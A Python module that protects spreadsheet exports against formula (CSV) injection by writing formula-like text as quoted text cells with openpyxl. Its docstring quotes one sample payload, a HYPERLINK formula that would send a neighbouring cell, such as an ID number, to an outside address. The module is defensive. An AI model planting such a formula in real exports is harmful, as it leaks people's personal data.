"""Spreadsheet exports whose cells never run: OWASP's rule against formula (CSV) injection.

A text that starts with "=", "+", "-", "@", a tab or a carriage return can be taken for a formula by a
spreadsheet program: a resident named ``=HYPERLINK("http://…/?x="&A2,"点我")`` would become a live link
sending the neighbouring cell (an ID number in a full export) anywhere. Every export writes its rows
through ``inert_row``: such a text is written as a text cell (never a formula) and marked with Excel's
quote prefix, so that editing the cell keeps it text too. The text itself is unchanged, so an export
still imports back as it was.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import TYPE_STRING

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert_cell(ws: Any, value: Any) -> Any:
    """The value as a worksheet cell that no spreadsheet runs (other values are returned unchanged)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        cell = WriteOnlyCell(ws, value)
        cell.data_type = TYPE_STRING  # openpyxl made it a formula
        cell.quotePrefix = True
        return cell
    return value


def inert_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """A row for ``ws.append`` (write-only or not) with every cell inert."""
    return [inert_cell(ws, v) for v in values]
